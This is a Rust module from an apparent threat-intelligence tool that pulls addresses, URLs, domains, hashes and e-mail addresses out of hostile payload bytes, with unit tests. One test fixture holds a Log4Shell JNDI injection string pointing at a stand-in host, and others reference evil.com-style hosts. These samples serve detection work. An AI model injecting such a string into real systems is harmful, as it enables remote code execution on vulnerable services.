//! Observables in the text of a payload.
//!
//! A payload is hostile bytes, mostly not text at all, so this reads tokens in one pass and believes only what passes the
//! same checks as a named field, less what is known to be noise: version numbers, XML namespaces, file names and program
//! text that look like domains.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use indexmap::IndexSet;
use memchr::memmem;
use types::{Artifact, ArtifactKind};

use crate::artifact::{normalise, with_host};

/// Where scanning stops: a payload with more than this is made to be long.
const MOST_FOUND: usize = 10_000;

/// The longest token looked at; the longest e-mail address has 320 characters.
const LONGEST_TOKEN: usize = 320;

/// Hosts whose URLs are names of XML vocabularies and certificate practice, not places that anybody went to.
const VOCABULARIES: [&str; 8] = [
    "w3.org",
    "schemas.microsoft.com",
    "schemas.xmlsoap.org",
    "schemas.openxmlformats.org",
    "schemas.dmtf.org",
    "purl.org",
    "ns.adobe.com",
    "xml.org",
];

/// Public suffixes that, at the end of a bare word in a payload, are nearly always a file's extension or a property in
/// program text (`main.py`, `this.name`). They count where the word is part of a URL.
const AMBIGUOUS_SUFFIXES: [&str; 46] = [
    "ai", "app", "as", "author", "bar", "cab", "call", "cat", "cc", "cfd", "click", "data", "date", "dev", "do", "download", "family",
    "fm", "host", "id", "in", "is", "link", "map", "md", "mov", "name", "open", "page", "pid", "pl", "play", "ps", "py", "rs", "search",
    "sh", "so", "store", "style", "target", "vi", "wiki", "watch", "zip", "zone",
];

/// Whose names of algorithms look like e-mail addresses (RFC 4251, section 6: `zlib@openssh.com`).
const ALGORITHM_OWNERS: [&str; 4] = ["openssh.com", "libssh.org", "lysator.liu.se", "ssh.com"];

/// Bare words that are products or packages, not places.
const PRODUCTS: [&str; 8] = ["asp.net", "vb.net", "ado.net", "socket.io", "java.io", "java.net", "java.nio", "nodejs.org"];

/// Returns the addresses, URLs, domains, hashes and e-mail addresses of a payload, the first seen first, none twice.
pub fn scan(payload: &[u8]) -> Vec<Artifact> {
    let mut found: IndexSet<Artifact> = IndexSet::new();
    for url in urls(payload) {
        found.extend(url);
        if found.len() >= MOST_FOUND {
            break;
        }
    }
    for token in (Tokens { bytes: payload, at: 0 }) {
        if found.len() >= MOST_FOUND {
            break;
        }
        found.extend(classify(&token));
    }
    found.into_iter().collect()
}

/// The URLs of the text, each with its host.
fn urls(bytes: &[u8]) -> impl Iterator<Item = Vec<Artifact>> {
    memmem::find_iter(bytes, b"://").filter_map(move |colon| {
        let scheme = ["https", "http", "ftp"]
            .into_iter()
            .find(|scheme| colon >= scheme.len() && bytes[colon - scheme.len()..colon].eq_ignore_ascii_case(scheme.as_bytes()))?;
        let start = colon - scheme.len();
        let rest = &bytes[colon + 3..];
        let end = rest.iter().position(|byte| !is_url_byte(*byte)).unwrap_or(rest.len());
        let text =
            std::str::from_utf8(&bytes[start..colon + 3 + end]).ok()?.trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '&', '$']);
        let artifacts: Vec<Artifact> = with_host(ArtifactKind::Url, text).collect();
        // Unlike in a detector's field, a host that is no address and under no public suffix is most likely program text.
        let host = artifacts.get(1)?;
        let is_vocabulary =
            VOCABULARIES.iter().any(|name| host.value.strip_suffix(name).is_some_and(|rest| rest.is_empty() || rest.ends_with('.')));
        (!is_vocabulary).then_some(artifacts)
    })
}

fn is_vocabulary(host: &str) -> bool {
    VOCABULARIES.iter().any(|name| host.strip_suffix(name).is_some_and(|rest| rest.is_empty() || rest.ends_with('.')))
}

/// RFC 3986 less the characters that close a quotation of the URL in text and program code.
fn is_url_byte(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || b"-._~:/?#@!$&*+,;=%".contains(&byte)
}

/// A run of word bytes with what stands around it.
struct Token<'a> {
    text: &'a str,
    before: &'a [u8],
    after: Option<u8>,
}

struct Tokens<'a> {
    bytes: &'a [u8],
    at: usize,
}

/// The bytes of addresses, domains, hashes and e-mail addresses.
const IN_TOKEN: [bool; 256] = {
    let mut table = [false; 256];
    let mut byte = 0;
    while byte < 256 {
        let b = byte as u8;
        table[byte] = b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_' | b':' | b'@' | b'+' | b'%');
        byte += 1;
    }
    table
};

impl<'a> Iterator for Tokens<'a> {
    type Item = Token<'a>;

    fn next(&mut self) -> Option<Token<'a>> {
        loop {
            let start = self.at + self.bytes[self.at..].iter().position(|byte| IN_TOKEN[usize::from(*byte)])?;
            let length = self.bytes[start..].iter().position(|byte| !IN_TOKEN[usize::from(*byte)]).unwrap_or(self.bytes.len() - start);
            self.at = start + length;
            if !(6..=LONGEST_TOKEN).contains(&length) {
                continue;
            }
            let Ok(text) = std::str::from_utf8(&self.bytes[start..self.at]) else { continue };
            return Some(Token { text, before: &self.bytes[..start], after: self.bytes.get(self.at).copied() });
        }
    }
}

fn classify(token: &Token<'_>) -> Vec<Artifact> {
    let text = token.text.trim_matches(['.', '-', '_', ':', '@', '+', '%']);
    if let Some((_, owner)) = text.rsplit_once('@') {
        if ALGORITHM_OWNERS.contains(&owner) {
            return Vec::new();
        }
        return with_host(ArtifactKind::Email, text)
            .filter(|artifact| artifact.kind == ArtifactKind::Email || !is_ambiguous(&artifact.value))
            .collect();
    }
    if matches!(text.len(), 32 | 40 | 64) && is_mixed_hex(text) {
        return normalise(ArtifactKind::Hash, text).into_iter().collect();
    }
    let host = match text.rsplit_once(':') {
        Some((host, port)) if !host.contains(':') && port.bytes().all(|b| b.is_ascii_digit()) => host,
        _ => text,
    };
    if let Ok(address) = host.parse::<Ipv4Addr>() {
        return is_place_v4(address, token).then(|| normalise(ArtifactKind::Ip, host)).flatten().into_iter().collect();
    }
    if text.contains("::") || text.bytes().filter(|byte| *byte == b':').count() == 7 {
        return match text.parse::<Ipv6Addr>() {
            Ok(address) if is_place_v6(address) => normalise(ArtifactKind::Ip, text).into_iter().collect(),
            _ => Vec::new(),
        };
    }
    if is_bare_domain(host, token) {
        return normalise(ArtifactKind::Domain, host).filter(|artifact| artifact.kind == ArtifactKind::Domain).into_iter().collect();
    }
    Vec::new()
}

/// A hash has digits and letters; a run of digits alone is a number.
fn is_mixed_hex(text: &str) -> bool {
    text.bytes().all(|b| b.is_ascii_hexdigit()) && text.bytes().any(|b| b.is_ascii_digit()) && text.bytes().any(|b| b.is_ascii_alphabetic())
}

/// A version (`Chrome/37.0.20.103`, `version 1.2.3.4`) and a network mask have the form of an address.
fn is_place_v4(address: Ipv4Addr, token: &Token<'_>) -> bool {
    let [first, ..] = address.octets();
    if first == 0 || first == 255 || address.is_loopback() {
        return false;
    }
    let is_product_version = match token.before {
        [.., word, b'/'] => word.is_ascii_alphanumeric(),
        _ => false,
    };
    let tail = &token.before[token.before.len().saturating_sub(16)..];
    let words = tail.iter().rposition(|byte| byte.is_ascii_alphabetic()).map_or(&tail[..0], |last| &tail[..=last]);
    let is_called_version = ["version", "ver", "release", "build", "revision"].iter().any(|word| ends_with_word(words, word));
    !is_product_version && !is_called_version
}

fn ends_with_word(text: &[u8], word: &str) -> bool {
    text.len() >= word.len() && text[text.len() - word.len()..].eq_ignore_ascii_case(word.as_bytes())
}

/// Global, unique local or link-local; anything else with two colons is more likely program text.
fn is_place_v6(address: Ipv6Addr) -> bool {
    let first = address.segments()[0];
    let is_address = (first & 0xe000) == 0x2000 || address.is_unique_local() || address.is_unicast_link_local();
    is_address && !IpAddr::V6(address).is_unspecified()
}

fn is_bare_domain(text: &str, token: &Token<'_>) -> bool {
    let Some((rest, suffix)) = text.rsplit_once('.') else { return false };
    let label = rest.rsplit('.').next().unwrap_or(rest);
    let is_one_case = suffix.bytes().all(|b| b.is_ascii_lowercase()) || !text.bytes().any(|b| b.is_ascii_lowercase());
    let is_path = match token.before {
        [.., before, b'/'] => *before != b'/',
        [b'/'] | [.., b'\\' | b'$' | b'#'] => true,
        _ => false,
    };
    let is_program = matches!(token.after, Some(b'(' | b'=' | b'[' | b'\\'));
    label.len() >= 3
        && suffix.len() >= 2
        && suffix.bytes().all(|b| b.is_ascii_alphabetic())
        && is_one_case
        && !text.contains(['_', ':', '%', '+'])
        && !is_path
        && !is_program
        && !is_ambiguous(text)
        && !is_vocabulary(text)
        && !PRODUCTS.iter().any(|product| text.eq_ignore_ascii_case(product))
        && is_in_text(token)
}

fn is_ambiguous(domain: &str) -> bool {
    domain.rsplit('.').next().is_some_and(|suffix| AMBIGUOUS_SUFFIXES.iter().any(|known| suffix.eq_ignore_ascii_case(known)))
}

/// Compressed and encrypted bytes hold words by chance; a real name stands in text or ends the payload.
fn is_in_text(token: &Token<'_>) -> bool {
    let is_text = |byte: u8| matches!(byte, b' '..=b'~' | b'\r' | b'\n' | b'\t');
    let before = token.before.iter().rev().take(4).all(|byte| is_text(*byte));
    before && token.after.is_none_or(is_text)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The values found in `text`, in order.
    fn check(text: impl AsRef<[u8]>, expected: &[&str]) {
        let found = scan(text.as_ref());
        assert_eq!(found.iter().map(|artifact| artifact.value.as_str()).collect::<Vec<_>>(), expected);
    }

    #[test]
    fn a_request_gives_its_host_and_links() {
        check(
            "GET /a.php HTTP/1.1\r\nHost: rHuX9UZizH.com\r\nReferer: http://evil.example.net:8080/x?y=1.\r\nUser-Agent: Mozilla/5.0 Chrome/37.0.206.103\r\n\r\n",
            &["http://evil.example.net:8080/x?y=1", "evil.example.net", "rhux9uzizh.com"],
        );
    }

    #[test]
    fn addresses_of_both_families() {
        check("from 198.51.100.7, [2001:DB8::5]:443 and (203.0.113.9:1389)", &["198.51.100.7", "2001:db8::5", "203.0.113.9"]);
        check("${jndi:ldap://198.51.100.7:1389/Exploit}", &["198.51.100.7"]);
    }

    #[test]
    fn versions_masks_and_times_are_no_addresses() {
        check(
            "Opera/9.80.1.2 version 1.2.3.4 build=10.0.1.2 Ver: 5.6.7.8 mask 255.255.255.0 0.0.0.0 127.0.0.1 1.2.3.4.5 1.3.6.1.4.1.311 12:34:56 a::b std::dec",
            &[],
        );
    }

    #[test]
    fn hashes_by_length_and_alphabet() {
        let sha256 = "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855";
        let md5 = "d41d8cd98f00b204e9800998ecf8427e";
        check(format!("md5={md5};{sha256} {}", "1".repeat(32)), &[md5, &sha256.to_ascii_lowercase()]);
        check(format!("{md5}0"), &[]);
    }

    #[test]
    fn mail_addresses_give_their_domain_too() {
        check("MAIL FROM:<kim@example.co.kr>", &["kim@example.co.kr", "example.co.kr"]);
    }

    #[test]
    fn file_names_and_program_text_are_no_domains() {
        check(
            "index.php main.py setup.sh a.zip kernel32.dll document.cookie this.name window.open( obj.com= /path/file.co System.Net System.IO ASP.NET com.sun.jndi x.co",
            &[],
        );
        check("<html xmlns=\"http://www.w3.org/1999/xhtml\"> urn:schemas.microsoft.com ", &[]);
        check("none,zlib@openssh.com,rijndael-cbc@lysator.liu.se ", &[]);
    }

    #[test]
    fn chance_words_in_binary_data_are_not_believed() {
        check(b"\x00\x91\xffqxz.com\x80\x01", &[]);
        check(b"\x00\x00\x10ping evil.com", &["evil.com"]);
    }

    #[test]
    fn hostile_payloads_end() {
        check("", &[]);
        check([0xff; 4096], &[]);
        check("http://".repeat(2000), &[]);
        check("://".repeat(5000), &[]);
        assert!(scan("a@".repeat(100_000).as_bytes()).is_empty());
        assert!(scan(".".repeat(1_000_000).as_bytes()).is_empty());
        let many: String = (0..300_000_u32).map(|n| format!("{}.{}.{}.7 ", 11 + n % 89, n / 89 % 256, n / 22_784 % 256)).collect();
        assert_eq!(scan(many.as_bytes()).len(), MOST_FOUND);
    }
}
